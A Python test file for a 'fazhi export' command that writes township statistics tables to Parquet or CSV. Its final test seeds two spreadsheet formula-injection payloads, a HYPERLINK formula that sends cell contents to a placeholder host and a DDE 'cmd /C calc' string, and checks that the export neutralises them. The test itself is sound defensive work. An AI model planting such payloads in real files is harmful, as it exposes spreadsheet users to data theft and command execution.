"""`fazhi export`: the tidy tables as Parquet or CSV files a BI tool (or Excel) opens."""
from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from tests.helpers import current_multi_year

TABLES = ("reports", "metrics", "v_figures", "v_township_year", "alerts", "ingest_files", "runs")


def test_parquet_export_round_trips_the_figures(fazhi_cli, multi_year_warehouse: Path, tmp_path: Path, query):
    out = tmp_path / "export"
    proc = fazhi_cli("export", "--format", "parquet", str(out), "--db", str(multi_year_warehouse))
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t}.parquet" for t in TABLES)
    for table in TABLES:
        (n,), = query(multi_year_warehouse, f"SELECT count(*) FROM {table}")
        assert pl.read_parquet(out / f"{table}.parquet").height == n, table
    figures = pl.read_parquet(out / "v_figures.parquet")
    got = {(r["township"], r["year"], r["metric"]): r["value"] for r in figures.iter_rows(named=True)}
    assert got == {(t, y, m): v for (t, y), f in current_multi_year().items() for m, v in f.items()}
    wide = pl.read_parquet(out / "v_township_year.parquet")
    assert wide.filter((pl.col("township") == "青山镇") & (pl.col("year") == 2024))["disputes_mediated"].to_list() == [25]


def test_csv_export_opens_in_excel_with_chinese(fazhi_cli, multi_year_warehouse: Path, tmp_path: Path):
    out = tmp_path / "csv"
    proc = fazhi_cli("export", "--format", "csv", str(out), "--db", str(multi_year_warehouse))
    assert proc.returncode == 0, proc.stderr
    raw = (out / "v_figures.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                     # UTF-8 BOM: Excel reads the Chinese right
    with (out / "v_figures.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == sum(len(f) for f in current_multi_year().values())
    assert {"人民调解纠纷件数"} <= {r["label"] for r in rows}


@pytest.mark.parametrize("fmt", ["xlsx"])
def test_unknown_format_is_refused(fazhi_cli, multi_year_warehouse: Path, tmp_path: Path, fmt: str):
    proc = fazhi_cli("export", "--format", fmt, str(tmp_path / "x"), "--db", str(multi_year_warehouse))
    assert proc.returncode == 2 and "parquet, csv" in proc.stderr
    assert not (tmp_path / "x").exists()


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(fazhi_cli, multi_year_warehouse: Path, tmp_path: Path):
    import shutil

    import duckdb

    db = tmp_path / "w.duckdb"
    shutil.copy(multi_year_warehouse, db)
    evil_name = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
    con = duckdb.connect(str(db))
    [(report_id,)] = con.sql("SELECT report_id FROM reports WHERE is_current ORDER BY report_id LIMIT 1").fetchall()
    con.execute("UPDATE reports SET file_name = ? WHERE report_id = ?", [evil_name, report_id])
    con.execute("UPDATE metrics SET evidence = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE report_id = ?", [report_id])
    con.close()
    out = tmp_path / "csv"
    assert fazhi_cli("export", "--format", "csv", str(out), "--db", str(db)).returncode == 0
    with (out / "reports.csv").open(encoding="utf-8-sig", newline="") as fh:
        names = {r["report_id"]: r["file_name"] for r in csv.DictReader(fh)}
    with (out / "metrics.csv").open(encoding="utf-8-sig", newline="") as fh:
        evidence = {r["evidence"] for r in csv.DictReader(fh) if r["report_id"] == report_id}
    assert names[report_id] == "'" + evil_name
    assert evidence == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert not any(v.startswith(("=", "+", "-", "@")) for v in names.values())
    sql = fazhi_cli("sql", f"SELECT file_name FROM reports WHERE report_id = '{report_id}'", "--db", str(db),
                    "--format", "csv")
    assert sql.stdout.splitlines()[1:] == ["\"'" + evil_name.replace('"', '""') + '"']
